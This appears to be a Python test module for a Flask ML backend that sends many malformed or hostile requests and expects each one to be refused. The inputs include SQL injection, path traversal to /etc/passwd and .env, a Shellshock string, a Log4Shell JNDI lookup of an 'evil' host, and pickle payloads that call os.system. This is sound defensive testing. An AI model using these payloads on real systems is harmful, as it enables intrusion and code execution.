"""Requests to the backend: credentials, headers, methods, and JSON that says nothing."""

from __future__ import annotations

import base64
import json
import tempfile
from collections.abc import Iterator
from functools import cache
from itertools import product
from pathlib import Path
from typing import Any

from flask.testing import FlaskClient

from ml_backend.serving.app import create_app
from ml_backend.settings import Settings
from ml_backend.state.projects import Project, Projects
from ml_backend.system.credentials import read_backend_password
from tests.hostile.hostile import Hostile, give, show

CONFIG = (
    '<View><Image name="image" value="$image"/><RectangleLabels name="label" toName="image">'
    '<Label value="Mitotic cell"/></RectangleLabels></View>'
)

Asked = tuple[str, str, dict[str, str], bytes | None]
"""Method, path, headers and body."""


@cache
def open_backend() -> tuple[FlaskClient, str]:
    """Open, once a process, a backend that knows project 1; a client and the password's header."""
    settings = Settings(data_dir=Path(tempfile.mkdtemp()))
    projects = Projects(settings.projects_database)
    projects.connect(Project(1, "http://127.0.0.1:9/", "token", "Roots", CONFIG))
    app = create_app(settings)
    return app.test_client(use_cookies=False), encode("cytoloop", read_backend_password(settings))


def encode(user: str, password: str) -> str:
    """The header of user and password."""
    sent = f"{user}:{password}".encode("utf-8", "surrogatepass")
    return f"Basic {base64.b64encode(sent).decode()}"


def ask(asked: Asked) -> str:
    """Ask the backend, without its password."""
    method, path, headers, body = asked
    reply = open_backend()[0].open(path, method=method, headers=headers, data=body)
    return f"{reply.status_code} {reply.text[:300]}"


def ask_with_password(asked: Asked) -> str:
    """Ask the backend as Label Studio does."""
    method, path, headers, body = asked
    return ask((method, path, {"Authorization": open_backend()[1], **headers}, body))


def list_requests() -> Iterator[Hostile]:
    """List requests that are refused."""
    yield from _list_credentials()
    yield from _list_routes()
    yield from _list_headers()
    yield from _list_bodies()


def _list_credentials() -> Iterator[Hostile]:
    """Requests of somebody who does not know the password."""
    wrong = base64.b64encode(b"cytoloop:wrong").decode()
    values = {
        "none": "",
        "wrong": f"Basic {wrong}",
        "no password": encode("cytoloop", ""),
        "no user": encode("", "x"),
        "nothing at all": encode("", ""),
        "another user": encode("admin", "admin"),
        "a user of sql": encode("' or 1=1 --", "' or 1=1 --"),
        "a long one": encode("cytoloop", "x" * 100_000),
        "a nul": encode("cytoloop\0", "\0"),
        "half letters": encode("cytoloop", "\ud800"),
        "letters of others": encode("cytoloop", "пароль"),
        "no base64": "Basic !!!!",
        "half base64": f"Basic {wrong[:-3]}",
        "base64 of bytes": f"Basic {base64.b64encode(bytes(range(256))).decode()}",
        "no colon": f"Basic {base64.b64encode(b'cytoloop').decode()}",
        "only colons": f"Basic {base64.b64encode(b'::::').decode()}",
        "a scheme alone": "Basic",
        "a scheme and blanks": "Basic    ",
        "another scheme": "Bearer abc",
        "a token": "Token abc",
        "digest": 'Digest username="cytoloop", realm="cytoloop", nonce="", response=""',
        "digest of rubbish": "Digest =,=,=",
        "negotiate": "Negotiate YII=",
        "ntlm": "NTLM TlRMTVNTUAAB",
        "aws": "AWS4-HMAC-SHA256 Credential=x, SignedHeaders=host, Signature=x",
        "quotes that are open": 'Basic "',
        "two": f"Basic {wrong}, Basic {wrong}",
    }
    for (what, value), path in product(values.items(), ("/predict", "/versions")):
        method = "POST" if path == "/predict" else "GET"
        headers = {"Authorization": value} if value else {}
        asked: Asked = (method, path, headers, b"{}" if method == "POST" else None)
        yield Hostile(f"{path} with credentials: {what}", give(asked), ask, "^401 .*wrong user")
    cookies = {
        "empty": "",
        "rubbish": "rubbish",
        "a payload without a signature": "eyJ0b2tlbiI6ICJ4In0",
        "a signature of nothing": "eyJ0b2tlbiI6ICJ4In0.aAaAaA.AAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "packed": ".eJyrVirJz05VslKqUKoFAB0-BGo.aAaAaA.AAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "a bomb": "." + "A" * 4000 + ".aAaAaA.AAAA",
        "dots": "." * 3000,
        "unicode": "é.é.é",
        "pickle": "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAlpZCA.x.x",
    }
    for what, value in cookies.items():
        asked = ("GET", "/versions", {"Cookie": f"cytoloop_session={value}"}, None)
        yield Hostile(f"a session that is {what}", give(asked), ask, "^401 .*wrong user")
    tricks = {
        "X-Forwarded-For": "127.0.0.1",
        "X-Forwarded-User": "cytoloop",
        "X-Remote-User": "cytoloop",
        "X-Original-URL": "/health",
        "X-Rewrite-URL": "/health",
        "X-HTTP-Method-Override": "GET",
        "X-Real-IP": "127.0.0.1",
        "Forwarded": "for=127.0.0.1",
        "Proxy-Authorization": encode("cytoloop", "x"),
        "X-Api-Key": "x",
        "X-CSRF-Token": "x",
    }
    for name, value in tricks.items():
        asked = ("POST", "/setup", {name: value}, b'{"project": 1}')
        yield Hostile(f"{name} in place of a password", give(asked), ask, "^401 .*wrong user")


def _list_routes() -> Iterator[Hostile]:
    """Paths and methods that are none, of somebody with and without the password."""
    paths = (
        *("/../etc/passwd", "/static/../app.py", "/static/..%2f..%2fsettings.py", "/static//etc/x"),
        *("/static/%2e%2e/%2e%2e/settings.py", "/static/", "/.git/config", "/.env", "/admin"),
        *("/console", "/debug", "/server-status", "/openapi.json/../versions", "/predict/", "//"),
        *("/projects/1/cells/../../../x", "/projects/-1/", "/projects/999/", "/projects/x/"),
        *(f"/projects/{10**30}/", "/projects/1/versions/..%2f..%2fx", "/projects/1/cells/9.jpg"),
        *("/projects/1/compare/?left=..%2fx", "/projects/1/compare/?right=%00", "/x" * 2000),
        *("/projects/1/confirm/delete", "/projects/1/confirm/promote?version=../x", "/%00", "/%ff"),
    )
    for path in paths:
        asked: Asked = ("GET", path, {}, None)
        name = path if len(path) < 60 else f"{path[:20]}... of {len(path)}"
        # Fonts and styles are open to anyone; what is not there is not found.
        yield Hostile(f"{name} of a stranger", give(asked), ask, "^(401|404|405|308) ")
        found = "^(404|405|308|400) "
        yield Hostile(f"{name} of Label Studio", give(asked), ask_with_password, found)
    for method, path in product(
        ("PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "EVIL"),
        ("/predict", "/health", "/versions"),
    ):
        asked = (method, path, {}, None)
        yield Hostile(f"{method} {path}", give(asked), ask_with_password, "^405 ")


def _list_headers() -> Iterator[Hostile]:
    """Headers that are no truth."""
    post = ("POST", "/webhook")
    body = b'{"action": "START_TRAINING", "project": 99}'
    origins = (
        *("http://evil", "null", "https://localhost.evil", "http://localhost:80", "file://", "x"),
        *(
            "http://[",
            "http://localhost@evil",
            "",
            " ",
            "http://localhost/",
            "//",
            "http://a" * 500,
        ),
    )
    for origin in origins:
        asked: Asked = (*post, {"Origin": origin}, body)
        refusal = "^(403 .*another web site|404)" if "localhost" in origin else "^403 .*another web"
        yield Hostile(f"Origin {show(origin)}", give(asked), ask_with_password, refusal)
    headers = {
        "Content-Type": ("text/plain", "x", "multipart/form-data", "application/xml", "a/b;" * 99),
        "Content-Encoding": ("gzip", "deflate", "br", "evil"),
        "Transfer-Encoding": ("chunked", "gzip", "evil"),
        "Accept": ("text/html", "x", "*/*;q=NaN", "text/html;q=1e999", "a/b," * 999),
        "Accept-Charset": ("klingon",),
        "Accept-Language": ("../x", "x" * 5000),
        "Range": ("bytes=0-", "bytes=-1", "bytes=0-0," * 500),
        "If-Modified-Since": ("never", "Thu, 99 Jan 99999 99:99:99 GMT"),
        "Expect": ("100-continue", "evil"),
        "Host": ("evil", "evil:99999", "", "[", "a b", "../x", "localhost\x7f"),
        "Content-Length": ("-1", "x", "9" * 30),
        "Cookie": ("=", ";;;;", "a=b;" * 2000, 'a="', "\x01=\x02"),
        "User-Agent": ("", "() { :;}; id", "<script>", "${jndi:ldap://evil/a}", "%s%n"),
    }
    for name, values in headers.items():
        for value in values:
            asked = (*post, {name: value}, body)
            refusal = "^(400|404|413|403) "
            title = f"{name}: {show(value)}"
            yield Hostile(title, give(asked), ask_with_password, refusal)


VALUES: dict[str, bytes] = {
    "nothing": b"",
    "text": b"not JSON",
    "half an object": b'{"project": ',
    "bytes": b"\xff\xfe\x00",
    "null": b"null",
    "a number": b"3",
    "NaN": b"NaN",
    "a word": b'"text"',
    "a list": b"[]",
    "no project": b"{}",
    "depth": b"[" * 100_000,
    "depth in an object": b'{"a":' * 50_000,
    "half a letter": b'{"project": "\\ud800"}',
    "a nul": b'{"project": "\\u0000"}',
    "raw controls": b'{"project": "\n"}',
    "a bom": b"\xef\xbb\xbf{}",
    "single quotes": b"{'project': 1}",
    "a comment": b'{"project": 1 /* */}',
    "a comma too many": b'{"project": 1,}',
    "two values": b"{} {}",
    "a form": b"project=1&tasks=x",
    "xml": b"<project>1</project>",
    "yaml": b"project: 1",
    "pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
    "a number of 10,000 digits": b'{"project": ' + b"9" * 10_000 + b"}",
    "a fraction of 10,000 digits": b'{"project": 0.' + b"9" * 10_000 + b"}",
    "an exponent": b'{"project": 1e999999}',
}
PROJECTS: dict[str, Any] = {
    "null": None,
    "true": True,
    "a fraction": 1.5,
    "a list": [1],
    "an object": {},
    "an object in one": {"id": {"id": 1}},
    "empty": "",
    "a word": "one",
    "a blank": " ",
    "a path": "../1",
    "a query": "1 or 1=1",
    "another number": 77,
    "below zero": -1,
    "very large": 10**30,
    "very large text": str(10**30),
    "a time alone": ".1700000000",
    "digits of others": "٣٣",
    "a nul": "7\0",
    "5,000 characters": "7" * 5000,
    "a list in an object": {"id": [1]},
}


def _list_bodies() -> Iterator[Hostile]:
    """Bodies that say nothing, or name a project that is none."""
    for route, (what, body) in product(("/setup", "/predict", "/webhook"), VALUES.items()):
        asked: Asked = ("POST", route, {}, body)
        yield Hostile(f"{route} of {what}", give(asked), ask_with_password, '^400 {"error":"')
    for route, (what, project) in product(("/setup", "/predict", "/webhook"), PROJECTS.items()):
        content = {"project": project, "tasks": [], "action": "START_TRAINING"}
        asked = ("POST", route, {}, json.dumps(content).encode())
        refusal = '^(400|404) {"error":"'
        yield Hostile(f"{route}, project: {what}", give(asked), ask_with_password, refusal)
    for tasks in (None, {}, "tasks", 3, True, [3], [None], [[]], ["task"], [{}, 3], 1e300):
        content = {"project": "1.17", "tasks": tasks}
        asked = ("POST", "/predict", {}, json.dumps(content).encode())
        name = f"/predict, tasks: {tasks!r}"
        yield Hostile(name, give(asked), ask_with_password, "^400 .*'tasks' must be a list")
    for action in (None, 3, True, [], {}, "\ud800", 1e300, ["START_TRAINING"]):
        content = {"project": 1, "action": action}
        asked = ("POST", "/webhook", {}, json.dumps(content).encode())
        name = f"/webhook, action: {action!r}"
        yield Hostile(name, give(asked), ask_with_password, "^400 .*'?action'?")
    schemas = ("<View", "<!DOCTYPE a><a/>", "<a>" * 200, "\ud800", "x", "&", "<a/><b/>")
    for schema in schemas:
        content = {"project": 1, "schema": schema}
        asked = ("POST", "/setup", {}, json.dumps(content).encode())
        name = f"/setup, schema: {show(schema)}"
        yield Hostile(name, give(asked), ask_with_password, '^400 {"error":"')
